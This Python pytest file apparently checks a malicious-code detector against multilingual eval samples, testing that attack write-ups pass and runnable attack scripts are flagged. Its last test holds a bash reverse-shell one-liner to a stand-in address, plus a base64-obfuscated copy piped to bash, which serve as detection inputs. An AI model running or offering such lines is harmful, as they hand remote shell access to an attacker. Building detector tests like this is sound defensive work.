"""A text about attacks passes in every language of the product; a script to be run on somebody's machine does not."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

Flagged = Callable[..., set[str]]

SAMPLES = Path(__file__).parents[3] / "evals" / "samples" / "malicious_code.jsonl"
ROWS = [json.loads(line) for line in SAMPLES.read_text("utf-8").splitlines()]
ABOUT = [row["text"] for row in ROWS if row["label"] == "benign" and row["language"] == "text" and "```" in row["text"]]
FOREIGN_ORDERS = [
    row["text"] for row in ROWS if row["label"] == "malicious" and "```" in row["text"] and not row["text"].isascii()
]


def test_there_are_texts_of_many_languages() -> None:
    assert len(ABOUT) >= 11
    assert sum(not text.isascii() for text in ABOUT) >= 8
    assert len(FOREIGN_ORDERS) >= 4


@pytest.mark.parametrize("text", ABOUT, ids=range(len(ABOUT)))
def test_what_explains_an_attack_passes(text: str, flagged: Flagged) -> None:
    assert flagged(text) == set()


@pytest.mark.parametrize("text", FOREIGN_ORDERS, ids=range(len(FOREIGN_ORDERS)))
def test_what_is_to_be_run_on_a_target_does_not(text: str, flagged: Flagged) -> None:
    assert flagged(text)


def test_what_was_hidden_counts_in_a_write_up(flagged: Flagged) -> None:
    (text, *_) = (text for text in ABOUT if "Eine Reverse-Shell" in text)
    hidden = "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjcvNDQ0NCAwPiYx | base64 -d | bash"
    assert flagged(text.replace("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", hidden))
